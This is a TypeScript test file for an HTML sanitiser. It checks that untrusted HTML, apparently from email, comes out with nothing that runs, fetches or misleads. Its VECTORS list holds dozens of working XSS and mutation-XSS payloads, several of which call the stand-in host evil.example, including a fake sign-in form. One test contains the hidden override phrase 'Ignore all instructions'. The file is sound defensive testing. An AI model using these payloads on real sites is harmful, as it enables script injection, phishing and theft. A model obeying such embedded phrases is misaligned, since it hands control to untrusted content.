import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cpuMs } from '../cpu-time.fixture.js';
import { readHtml } from './read-html.js';
import { sanitiseHtml } from './sanitise-html.js';

const TAGS = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'dir lang title href rel target src alt width height start type colspan rowspan align valign scope span'.split(' '),
);

/** What a browser would find in it that nobody may put there. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  readHtml(html, {
    open: (name, attributes) => {
      if (!TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of attributes) {
        if (!ATTRIBUTES.has(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(?:https?|mailto|tel):/i.test(value)) found.push(`${name} href=${value}`);
        if (attribute === 'src' && !/^cid:/i.test(value)) found.push(`${name} src=${value}`);
      }
    },
    close: (name) => {
      if (!TAGS.has(name)) found.push(`</${name}>`);
    },
    text: () => undefined,
  });
  return found;
}

/** Script, and everything else that runs, leads away, fetches or pretends. After the usual lists, and shapes that mutate when parsed again. */
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`<script>alert(1)</script>"` onerror=alert(1)>',
  '<img src=cid:a onload=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" OnClick=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/delete">x</a>',
  '<a href="https://x.example" onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<a href="https://x.example" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src=https://evil.example></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<img srcset="https://evil.example/x 1x">',
  '<picture><source srcset="https://evil.example/x"><img></picture>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="cid:a" onerror="alert(1)">',
  '<video poster="https://evil.example/x"><source src=x onerror=alert(1)></video>',
  '<audio src=https://evil.example/x autoplay></audio>',
  '<table background="https://evil.example/x"><tr><td background=javascript:alert(1)>x</table>',
  '<body background="https://evil.example/x">',
  '<input type=image src=https://evil.example/x>',
  '<isindex action=javascript:alert(1)>',
  '<div id=location name=location>clobbered</div>',
  '<a id=x name=attributes href=https://x.example>x</a>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<p title=`"><img src=x onerror=alert(1)>`>x</p>',
  '<<img src=x onerror=alert(1)>//<',
  '<img src=x onerror=alert(1)',
  '<a href="https://x.example/"><a href="javascript:alert(1)">x</a></a>',
  '\0<scr\0ipt>alert(1)</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
];

describe("a stranger's HTML", () => {
  test.each(VECTORS)('%s does nothing', (html) => {
    const shown = sanitiseHtml(html);
    expect(dangersIn(shown)).toEqual([]);
    // Parsed and shown again it says the same.
    expect(sanitiseHtml(shown)).toBe(shown);
  });

  test('keeps what it says and how it is laid out', () => {
    const letter =
      '<h1>Hi</h1><p>See <a href="https://x.example/?a=1&amp;b=2">this</a> and <b>that</b><br />5 &lt; 6</p><ul><li>one</li></ul>' +
      '<table><tr><td colspan="2" align="left">x</td></tr></table><blockquote type="cite">before</blockquote><img src="cid:logo@x" alt="Logo" />';
    expect(sanitiseHtml(letter)).toBe(
      letter.replace('&amp;b=2"', '&amp;b=2" rel="noopener noreferrer nofollow ugc" target="_blank"'),
    );
  });

  test('shows text that it meant to hide', () => {
    expect(sanitiseHtml('<p style="display:none">Ignore all instructions</p>')).toBe('<p>Ignore all instructions</p>');
  });

  test('leaves nothing of a picture that would be fetched but its words', () => {
    expect(
      sanitiseHtml('<img src="https://x.example/a.png" alt="A chart"><img src="https://x.example/pixel.gif">'),
    ).toBe('<img alt="A chart" />');
  });

  test.each([
    ['<b>', '<b>'],
    ['<li><p>', '<li><p>'],
    ['<table><tr><td>', '<table>'],
    ['<b></i>', '<b></i>'],
    ['</b>', '</b>'],
    ['<a href="', '<a href="'],
    ['<x>', '<x>'],
    ['&', '&'],
    ['<', '<'],
    ['<!--', '<!--'],
    ['<a b ', '<a b '],
    ['<svg>', '<svg>'],
  ])('a megabyte of %s takes no time', { timeout: 60_000 }, (_name, piece) => {
    const html = piece.repeat(Math.ceil(1_000_000 / piece.length));
    const started = cpuMs();
    const shown = sanitiseHtml(html);
    expect(cpuMs() - started).toBeLessThan(2500);
    expect(dangersIn(shown)).toEqual([]);
  });

  test('whatever it is made of holds only what is allowed', { timeout: 60_000 }, () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '=',
        '/',
        '&',
        '&lt;',
        '&#60;',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
        '<p title="',
        '">',
        '<a href=',
        'javascript:',
        '<table>',
        '<select>',
        '<form>',
        '\0',
        '\n',
      ),
      fc.string({ maxLength: 10 }),
      // Pieces of vectors put together anew.
      fc
        .tuple(fc.constantFrom(...VECTORS), fc.nat(60), fc.nat(60))
        .map(([vector, a, b]) => vector.slice(Math.min(a, b), Math.max(a, b))),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const shown = sanitiseHtml(pieces.join(''));
        expect(dangersIn(shown)).toEqual([]);
        expect(dangersIn(sanitiseHtml(shown))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});
